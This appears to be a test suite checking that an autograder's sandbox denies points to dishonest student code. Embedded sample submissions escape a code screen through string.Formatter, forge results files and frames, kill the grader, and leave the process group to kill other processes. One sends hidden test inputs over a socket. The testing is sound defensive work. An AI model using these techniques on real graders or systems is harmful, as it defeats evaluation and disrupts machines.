"""The grader against dishonest submissions, each on a tiny synthetic project (issues 9 and 16).

Every attack found on the grader must earn nothing. Since the judge left the student's
process, the screen is only early feedback; these tests turn it off where an attack must
get past it (``screen=False``) to show that the boundary holds without it: code with full
powers in the student process still cannot reach the recorder, forge a frame, hand back an
object that "equals" the answer, change the test's inputs, or read the tests. One attack
also passes the screen as it stands (``string.Formatter`` reaching ``exec``), to keep that
fact in view. The projects grade in about a second each, in the background from the
session's first test (conftest's ``background``); the production-mode runs (``--submission``
and ``--run-as nobody``, as ``run_autograder`` does) need root and an interpreter that user
may run (``SCRATCH_NOBODY_PYTHON``, made by ``.ci/run``), and skip with the reason otherwise.
"""

import json
import os
import re
import shutil
import signal
import subprocess
import sys
import tempfile
import time

import pytest

from scratch.grading import grade
from synthetic_project import grade_cli, make_project, start_grade_cli, statuses

pytestmark = pytest.mark.instructor

STUB = """
def double(x):
    raise NotImplementedError("double: not implemented yet")


def scale(x):
    raise NotImplementedError("scale: not implemented yet")


def vector():
    raise NotImplementedError("vector: not implemented yet")
"""

TESTS_OF_STUB = """
import numpy as np
import pytest

class TestDouble:
    '''double: twice x'''
    @pytest.mark.points(100)
    def test_two(self, impl):
        assert impl.mdp.double(2) == 4

    @pytest.mark.points(100)
    def test_three(self, impl):
        assert impl.mdp.double(3) == 6

class TestArrays:
    '''scale and vector'''
    @pytest.mark.points(100)
    def test_scale_against_its_input(self, impl):
        x = np.arange(1.0, 4.0)
        out = impl.mdp.scale(x)
        assert type(out) is np.ndarray
        np.testing.assert_allclose(out, 2 * x)  # the expected value read after the call

    @pytest.mark.points(100)
    def test_vector(self, impl):
        out = impl.mdp.vector()
        assert type(out) is np.ndarray and out.shape == (3,)
        np.testing.assert_allclose(out, [1.0, 2.0, 3.0])
"""

# Full powers in the student process, then every trick of issue 16 at once: walk the
# garbage collector for the recorder and the channel, rewrite np.testing, write forged
# frames on every descriptor, and answer with objects that say "equal" to anything.
FULL_POWERS = """
import gc, os, sys
import numpy as np

for thing in gc.get_objects():  # the recorder is not in this process: nothing to find
    if type(thing).__name__ in ("Recorder", "Remote", "Reader"):
        thing.outcomes = {}
np.testing.assert_allclose = lambda *a, **k: None  # this process's np.testing only


class Equal:
    def __eq__(self, other):
        return True

    __ne__ = lambda self, other: False
    __array_priority__ = 1000

    def __array_ufunc__(self, *args, **kwargs):
        return True

    def __array_function__(self, *args, **kwargs):
        return True


class AlwaysArray(np.ndarray):
    def __eq__(self, other):
        return np.ones(np.shape(other), bool)

    def __array_ufunc__(self, *args, **kwargs):
        return np.zeros(3)


def double(x):
    return Equal()


def scale(x):
    x[...] = 0.0  # the test's input, zeroed in place: expected 2 * x would be 0 too
    return np.zeros_like(x)


def vector():
    if os.environ.get("FORGE_FRAMES"):
        for fd in range(3, 30):  # garbage on every descriptor this process has
            try:
                os.write(fd, b"\\x10" + b"\\0" * 15 + b'{"op":"ok","v":{"value":4}}')
            except OSError:
                pass
    return np.ma.masked_all(3)
"""

# Full powers with no tool the screen refuses: string.Formatter's field lookup reads the
# attributes named in a string, which reaches the builtins (exec, open, __import__) through a
# function's globals. The screen passes it: it is early feedback, not the boundary.
PAST_THE_SCREEN = """
import string


def reach(obj, path):
    return string.Formatter().get_field("0." + path, [obj], {})[0]


builtins = reach(reach, "__globals__")["__builtins__"]
"""

STUDENT_EXITS = """
import os


def double(x):
    if x == 2:
        os._exit(3)
    return 2 * x
"""

def student_hangs(mark_folder):
    """A double that hangs, past the screen, having left an empty file named by its process
    id in ``mark_folder`` (the student process may create files, never write into them)."""
    return PAST_THE_SCREEN + f"""

def double(x):
    pid = builtins["__import__"]("os").getpid()
    builtins["open"]({str(mark_folder)!r} + "/" + str(pid), "w").close()
    while True:
        builtins["__import__"]("time").sleep(0.01)
"""


def student_pid(mark_folder, seconds=30):
    """The process id the hanging student left in ``mark_folder`` (waits for it)."""
    deadline = time.monotonic() + seconds
    while not os.listdir(mark_folder) and time.monotonic() < deadline:
        time.sleep(0.05)
    return int(os.listdir(mark_folder)[0])


def ended(pid, seconds=10):
    """True once process ``pid`` is gone or dead (a zombie waiting for init to reap it: the
    student process is the judge's child, so it outlives a killed judge only as that)."""
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        try:
            with open(f"/proc/{pid}/stat") as stat:
                if stat.read().rsplit(")", 1)[1].split()[0] in ("Z", "X"):
                    return True
        except FileNotFoundError:
            return True
        except OSError:
            pass
        time.sleep(0.05)
    return False


def past_the_screen():
    """Past the screen, rewrite the recorder wherever it may be; the stubs of scale and
    vector stay untouched."""
    return PAST_THE_SCREEN + """
builtins["exec"]("import gc\\nfor t in gc.get_objects():\\n    if type(t).__name__ == 'Recorder': t.outcomes = {}")


def double(x):
    return 2 * x + 1
""" + STUB.split("raise NotImplementedError(\"double: not implemented yet\")")[1]


def project(root, exercise=STUB, tests=TESTS_OF_STUB):
    return make_project(root, {"test_mdp.py": tests}, {"mdp.py": exercise})


def outcome(root, screen=True, timeout=20.0, env=None):
    """``(score, questions)`` or the :class:`grade.Rejected` raised."""
    saved = dict(os.environ)
    os.environ.update(env or {})
    try:
        questions, _ = grade.grade("exercises", root, timeout=timeout, screen=screen)
    except grade.Rejected as rejected:
        return rejected
    finally:
        os.environ.clear()
        os.environ.update(saved)
    return sum(q.score for q in questions), questions


BACKGROUND_FOR = ("attacks",)  # conftest's background: what start_background feeds


def start_background(pool, tmp_path_factory):
    cases = {
        "full_powers": (FULL_POWERS, False),
        "full_powers_screened": (FULL_POWERS, True),
        "past_the_screen": (past_the_screen(), True),
        "exits": (STUDENT_EXITS, False),
        "honest": (STUB, True),
    }
    runs = {name: pool.submit(outcome, project(tmp_path_factory.mktemp(name), code), screen)
            for name, (code, screen) in cases.items()}
    runs["forged_frames"] = pool.submit(outcome, project(tmp_path_factory.mktemp("forged"), FULL_POWERS), False,
                                        20.0, {"FORGE_FRAMES": "1"})
    return runs


@pytest.fixture(scope="module")
def attacks(background):
    return {name: future.result() for name, future in background[__name__].items()}


def test_full_powers_in_the_student_process_earn_nothing(attacks):
    score, questions = attacks["full_powers"]
    assert score == 0
    status = statuses(questions)
    # the always-equal object and the masked array came back as handles, never as values
    assert status["test_two"][0] == "failed"
    assert "MaskedArray (in the student process)" in status["test_vector"][1]
    assert status["test_scale_against_its_input"][0] == "failed"  # the input was a copy


def test_the_screen_still_names_the_lines_first(attacks):
    rejected = attacks["full_powers_screened"]
    assert isinstance(rejected, grade.Rejected)
    assert "exercises/mdp.py:2: imports gc" in str(rejected) and "none of it was run" in str(rejected)


def test_code_past_the_screen_still_earns_nothing(attacks):
    score, questions = attacks["past_the_screen"]  # not rejected: the screen is not the boundary
    assert score == 0
    assert statuses(questions)["test_two"][0] == "failed"


def test_forged_frames_crash_the_test_and_earn_nothing(attacks):
    score, questions = attacks["forged_frames"]
    assert score == 0
    status = statuses(questions)
    assert status["test_vector"][0] in ("crashed", "failed")


def test_a_student_process_that_dies_costs_one_test(attacks):
    score, questions = attacks["exits"]
    status = statuses(questions)
    assert status["test_two"][0] == "crashed" and "exited with code 3" in status["test_two"][1]
    assert status["test_three"][0] == "passed"  # a fresh judge and student process took over
    assert score == 100


def test_an_honest_stub_still_grades_normally(attacks):
    score, questions = attacks["honest"]
    assert score == 0
    assert {status for status, _ in statuses(questions).values()} == {"not_implemented"}


def test_a_hang_in_student_code_is_stopped_with_its_process(tmp_path):
    marks = tmp_path / "marks"
    marks.mkdir()
    root = project(tmp_path / "p", student_hangs(marks))
    questions, _ = grade.grade("exercises", root, timeout=3.0, screen=False)
    status = statuses(questions)
    assert status["test_two"][0] == "timed_out" and status["test_three"][0] == "timed_out"
    assert ended(student_pid(marks))  # the student process is gone with its judge


TESTS_THAT_FAKE_RESULTS_AND_KILL = """
import json, os, signal
import pytest

@pytest.mark.points(200)
def test_forges():
    try:
        with open(os.environ["FAKE_RESULTS"], "w") as out:
            json.dump({"score": 200, "tests": []}, out)
    finally:
        os.kill(os.getppid(), signal.SIGKILL)
"""


def test_a_killed_grader_leaves_zero_points_not_a_stale_pass(tmp_path):
    # The judge is trusted, but may be killed (a machine's OOM killer, a bug): the results
    # file must then say 0 points. The kill stands in the test file, the judge's own code.
    root = project(tmp_path / "p", tests=TESTS_THAT_FAKE_RESULTS_AND_KILL)
    results = tmp_path / "results.json"
    results.write_text(json.dumps({"score": 200}))  # a passing file from an earlier run
    status, _, _ = grade_cli(root, "--gradescope", str(results),
                             extra_env={"FAKE_RESULTS": str(tmp_path / "elsewhere.json")})
    assert status == -signal.SIGKILL  # the test did kill the grader
    written = json.loads(results.read_text())  # the placeholder written before grading
    assert written["score"] == 0 and "did not finish" in written["output"]


# -- production mode: --submission and --run-as nobody, as run_autograder runs -----------------

STUDENT_WRITES_RESULTS_AND_KILLS = PAST_THE_SCREEN + """

def double(x):
    os, json, glob = (builtins["__import__"](name) for name in ("os", "json", "glob"))
    # the judge's tree, with the tests and their expected values (a private folder)
    found = glob.glob(os.path.join(os.path.dirname(os.environ.get("TMPDIR", "/tmp/x")), "scratch-grading-*", "tests"))
    found += glob.glob("/tmp/scratch-grading-*/tests/chapters/test_mdp.py")
    try:
        with builtins["open"](os.environ.get("FAKE_RESULTS", "/autograder/results/results.json"), "w") as out:
            json.dump({"score": 200, "tests": []}, out)
    except OSError as err:
        print("could not write:", err)
    for pid in (os.getppid(), os.getpgid(0)):
        try:
            os.kill(pid, 9)
        except OSError as err:
            print("could not kill:", err)
    return 2 * x if found else -1
"""


def nobody_python():
    """An interpreter the user nobody can run with numpy and pytest, or skip saying why."""
    if os.geteuid() != 0:
        pytest.skip("--run-as needs root")
    python = os.environ.get("SCRATCH_NOBODY_PYTHON")
    if not python:
        pytest.skip("SCRATCH_NOBODY_PYTHON is not set (.ci/run makes one as root): no interpreter "
                    "outside root's home for the user nobody")
    probe = subprocess.run(["su", "nobody", "-s", "/bin/sh", "-c", f"{python} -c 'import numpy, pytest'"],
                           capture_output=True, text=True)
    if probe.returncode != 0:
        pytest.skip(f"the user nobody cannot run {python} with numpy and pytest: {probe.stderr.strip()[-200:]}")
    return python


def test_as_nobody_a_submission_cannot_write_results_read_tests_or_kill(tmp_path):
    python = nobody_python()
    with tempfile.TemporaryDirectory(prefix="scratch-run-as-") as base:  # private to root
        root = project(os.path.join(base, "p"))
        submitted = tmp_path / "submission"
        submitted.mkdir()
        (submitted / "mdp.py").write_text(STUDENT_WRITES_RESULTS_AND_KILLS)
        results = tmp_path / "results.json"
        env = {k: v for k, v in os.environ.items() if k not in ("SCRATCH_IMPL", "PYTHONPATH")}
        env["FAKE_RESULTS"] = str(results)
        run = subprocess.run(
            [python, "-m", "scratch", "grade", "--impl", "exercises", "--submission", str(submitted),
             "--gradescope", str(results), "--run-as", "nobody"],
            cwd=root, env=env, capture_output=True, text=True, timeout=120)
    assert run.returncode == 0, run.stderr
    written = json.loads(results.read_text())
    assert written["score"] == 0
    outputs = " ".join(test["output"] for test in written["tests"])
    assert "test_two" in " ".join(test["name"] for test in written["tests"]) and "failed" in outputs


STUDENT_ESCAPES_THE_GROUP = PAST_THE_SCREEN + """

def double(x):
    os = builtins["__import__"]("os")
    os.setsid()  # leave the judge's process group
    builtins["__import__"]("ctypes").CDLL(None).prctl(1, 0, 0, 0, 0)  # and its death signal
    builtins["open"](os.environ.get("MARKS", "/tmp") + "/" + str(os.getpid()), "w").close()
    while True:  # outlive the run, killing any other process of this user (a sweep run as it)
        for name in os.listdir("/proc"):
            try:
                if name.isdigit() and int(name) != os.getpid() and os.stat("/proc/" + name).st_uid == os.getuid():
                    os.kill(int(name), 9)
            except OSError:
                pass
        builtins["__import__"]("time").sleep(0.0003)
"""


def test_as_nobody_a_student_process_that_leaves_the_group_dies_with_the_run(tmp_path):
    """A student process that calls setsid and clears its parent-death signal is out of reach
    of the judge's group kill, and it kills any process of its own user it sees (a sweep run
    as that user died first, every time); the grader kills every process of the run-as user
    from root after each judge, so it does not outlive the run (it had read a later
    submission and killed its run)."""
    python = nobody_python()
    marks = tempfile.mkdtemp(prefix="scratch-marks-")
    os.chmod(marks, 0o777)  # the student process, as nobody, leaves its process id here
    try:
        with tempfile.TemporaryDirectory(prefix="scratch-run-as-") as base:
            root = project(os.path.join(base, "p"))
            submitted = tmp_path / "submission"
            submitted.mkdir()
            (submitted / "mdp.py").write_text(STUDENT_ESCAPES_THE_GROUP.replace('os.environ.get("MARKS", "/tmp")',
                                                                               repr(marks)))
            env = {k: v for k, v in os.environ.items() if k not in ("SCRATCH_IMPL", "PYTHONPATH")}
            run = subprocess.run(
                [python, "-m", "scratch", "grade", "--impl", "exercises", "--submission", str(submitted),
                 "--run-as", "nobody", "--timeout", "2"],
                cwd=root, env=env, capture_output=True, text=True, timeout=120)
        assert run.returncode == 0, run.stderr
        escaped = [int(name) for name in os.listdir(marks)]
        assert escaped and all(ended(pid) for pid in escaped), escaped  # it ran, and it is gone
    finally:
        shutil.rmtree(marks, ignore_errors=True)


STUDENT_PHONES_HOME = PAST_THE_SCREEN + """

def double(x):
    socket = builtins["__import__"]("socket")
    try:
        socket.create_connection(("127.0.0.1", PORT), timeout=2).sendall(b"the hidden inputs")
    except OSError:
        return 2 * x  # no network: the honest answer
    return -1
"""


def test_as_nobody_the_student_process_has_no_network(tmp_path):
    """The student process sees every input a test gives it, the hidden tests' too; with a
    network it could send them out while it runs. It gets a network namespace of its own."""
    import socket

    python = nobody_python()
    probe = subprocess.run([sys.executable, "-c", "import ctypes, sys; sys.exit(ctypes.CDLL(None).unshare(0x40000000))"])
    if probe.returncode != 0:
        pytest.skip("this kernel refuses root a network namespace (an unprivileged container): the grader "
                    "then leaves the student process its network, as the README says")
    listener = socket.create_server(("127.0.0.1", 0))
    listener.settimeout(0.5)
    port = listener.getsockname()[1]
    try:
        with tempfile.TemporaryDirectory(prefix="scratch-run-as-") as base:
            root = project(os.path.join(base, "p"))
            submitted = tmp_path / "submission"
            submitted.mkdir()
            (submitted / "mdp.py").write_text(STUDENT_PHONES_HOME.replace("PORT", str(port)))
            env = {k: v for k, v in os.environ.items() if k not in ("SCRATCH_IMPL", "PYTHONPATH")}
            run = subprocess.run(
                [python, "-m", "scratch", "grade", "--impl", "exercises", "--submission", str(submitted),
                 "--run-as", "nobody"], cwd=root, env=env, capture_output=True, text=True, timeout=120)
        assert run.returncode == 0, run.stderr
        with pytest.raises(socket.timeout):
            listener.accept()  # nothing reached the judge's machine
        assert re.search(r"1\.1 +double: twice x +200/200", run.stdout), run.stdout  # connecting failed, so it answered
    finally:
        listener.close()


def test_as_nobody_the_tests_must_be_out_of_reach():
    python = nobody_python()
    with tempfile.TemporaryDirectory(prefix="scratch-readable-") as base:
        root = project(os.path.join(base, "p"))
        for folder, _, files in os.walk(base):  # every user may read this project's tests
            os.chmod(folder, 0o755)
            for name in files:
                os.chmod(os.path.join(folder, name), 0o644)
        env = {k: v for k, v in os.environ.items() if k not in ("SCRATCH_IMPL", "PYTHONPATH")}
        run = subprocess.run([python, "-m", "scratch", "grade", "--impl", "exercises", "--run-as", "nobody"],
                             cwd=root, env=env, capture_output=True, text=True, timeout=120)
    assert run.returncode == 2 and "can read" in run.stderr and "tests" in run.stderr


def test_ctrl_c_stops_the_test_processes_without_a_traceback(tmp_path):
    marks = tmp_path / "marks"
    marks.mkdir()
    root = project(tmp_path / "p", student_hangs(marks))
    grader = start_grade_cli(root)
    child = student_pid(marks)
    grader.send_signal(signal.SIGINT)
    # Seconds alone; the generous limit is for a machine whose two cores the rest of the
    # suite keeps busy (10 s once ran out in CI).
    _, err = grader.communicate(timeout=45)
    assert grader.returncode == 130
    assert "interrupted" in err and "Traceback" not in err
    assert ended(child)  # the runaway student process is gone
